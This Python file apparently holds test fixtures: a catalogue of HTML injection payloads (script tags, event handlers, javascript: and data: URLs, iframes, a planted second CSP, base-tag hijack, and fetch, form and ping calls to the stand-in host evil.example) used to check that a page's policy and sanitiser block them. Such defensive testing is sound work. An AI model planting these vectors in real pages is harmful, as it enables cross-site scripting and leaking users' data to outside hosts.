"""What an attacker would write into a page if all sanitising were gone."""

from __future__ import annotations

from dataclasses import dataclass

EVIL = "https://evil.example"
RAN = "window.ran.push(1)"
_UP = "top.ran?.push(1)"


@dataclass(frozen=True, slots=True)
class Slip:
    """A piece of HTML.

    ``click``: the element ``#click`` in it is pressed. ``head``: it stands there.
    ``needs_headers``: a host must send what ``_headers`` says; a file's page cannot stop it.
    """

    name: str
    html: str
    click: bool = False
    head: bool = False
    needs_headers: bool = False

    def into(self, page: str) -> str:
        """Return the page with the piece in its text, or at the head of it after the policy."""
        if self.head:
            return page.replace("<title>", self.html + "<title>", 1)
        return page.replace("</main>", self.html + "</main>", 1)


SLIPS = (
    Slip("script", f"<script>{RAN}</script>"),
    Slip("script with a nonce", f'<script nonce="x">{RAN}</script>'),
    Slip("script elsewhere", f'<script src="{EVIL}/x.js"></script>'),
    Slip("script as data", f'<script src="data:text/javascript,{RAN}"></script>'),
    Slip("script of a text file", '<script src="slipped.txt"></script>', needs_headers=True),
    Slip("module", f'<script type="module">import "{EVIL}/x.js"; {RAN}</script>'),
    Slip("import map", f'<script type="importmap">{{"imports":{{"a":"{EVIL}/"}}}}</script>'),
    Slip(
        "speculation",
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}/"]}}]}}</script>',
    ),
    Slip("picture's handler", f'<img src="no.png" onerror="{RAN}">'),
    Slip("drawing's handler", f'<svg onload="{RAN}"></svg>'),
    Slip("drawing's script", f"<svg><script>{RAN}</script></svg>"),
    Slip("drawing's motion", f'<svg><animate onbegin="{RAN}" attributeName="x" dur="1s"/></svg>'),
    Slip("drawing's picture", f'<svg><image href="{EVIL}/p.png" width="9" height="9"/></svg>'),
    Slip("drawing's use", f'<svg><use href="{EVIL}/x.svg#a"/></svg>'),
    Slip(
        "drawing's use as data",
        f'<svg><use href="data:image/svg+xml,<svg id=a onload={RAN}></svg>#a"/></svg>',
    ),
    Slip("details' handler", f'<details open ontoggle="{RAN}"><summary>x</summary></details>'),
    Slip("focus", f'<input autofocus onfocus="{RAN}">'),
    Slip("motion's handler", f'<style>@keyframes x{{}}</style><p onanimationstart="{RAN}">x</p>'),
    Slip("style", "<style>body { color: rgb(1, 2, 3) !important }</style>"),
    Slip("style's import", f'<style>@import "{EVIL}/x.css"</style>'),
    Slip("style's attribute", f'<p style="background:url({EVIL}/p.png)">x</p>'),
    Slip("style of the page", '<div style="position:fixed;inset:0;z-index:9999">x</div>'),
    Slip("style sheet", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    Slip(
        "style sheet as data", '<link rel="stylesheet" href="data:text/css,body{color:rgb(1,2,3)}">'
    ),
    *(
        Slip(f"link {rel}", f'<link rel="{rel}" href="{EVIL}/x" as="script">')
        for rel in ("preload", "prefetch", "modulepreload", "icon", "manifest", "prerender")
    ),
    Slip("base", f'<base href="{EVIL}/">', head=True),
    Slip("base of another folder", '<base href="/elsewhere/">', head=True),
    Slip(
        "second policy",
        f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RAN}</script>",
        head=True,
    ),
    Slip("picture", f'<img src="{EVIL}/p.png">'),
    Slip("picture's set", f'<img srcset="{EVIL}/p.png 1x">'),
    Slip("picture's sources", f'<picture><source srcset="{EVIL}/p.png"><img></picture>'),
    Slip("film", f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png" autoplay></video>'),
    Slip("sound", f'<audio src="{EVIL}/a.mp3" autoplay></audio>'),
    Slip("track", f'<video><track default src="{EVIL}/t.vtt"></video>'),
    Slip("background", f'<table background="{EVIL}/p.png"><tr><td>x</td></tr></table>'),
    Slip("frame", f'<iframe src="{EVIL}/"></iframe>'),
    Slip("frame with a page", f'<iframe srcdoc="<script>{_UP}</script>"></iframe>'),
    Slip("frame with a script", f'<iframe src="javascript:{_UP}"></iframe>'),
    Slip("frame as data", f'<iframe src="data:text/html,<script>{_UP}</script>"></iframe>'),
    Slip("object", f'<object data="{EVIL}/x.swf"></object>'),
    Slip("object as data", f'<object data="data:text/html,<script>{_UP}</script>"></object>'),
    Slip("embed", f'<embed src="{EVIL}/x">'),
    Slip("portal", f'<portal src="{EVIL}/"></portal>'),
    Slip("script's address", f'<a id="click" href="javascript:{RAN}">x</a>', click=True),
    Slip(
        "script's address in MathML",
        f'<math><mtext id="click" href="javascript:{RAN}">x</mtext></math>',
        click=True,
    ),
    Slip("ping", f'<a id="click" href="#" ping="{EVIL}/">x</a>', click=True),
    Slip("form", f'<form action="{EVIL}/"><button id="click">x</button></form>', click=True),
    Slip(
        "form by post",
        f'<form method="post" action="{EVIL}/"><input name="q" value="x">'
        '<button id="click">x</button></form>',
        click=True,
    ),
    Slip(
        "form with a script",
        f'<form action="javascript:{RAN}"><button id="click">x</button></form>',
        click=True,
    ),
    Slip(
        "button of another form",
        f'<form><button id="click" formaction="{EVIL}/">x</button></form>',
        click=True,
    ),
    Slip("worker", f'<script>new Worker("{EVIL}/w.js"); {RAN}</script>'),
    Slip("fetch", f'<script>fetch("{EVIL}/"); {RAN}</script>'),
)
"""A page that sends its reader elsewhere (``meta refresh``, a plain link) is a matter of no policy:
browsers have no directive against it. Of these only the allow-list of HTML keeps notes."""
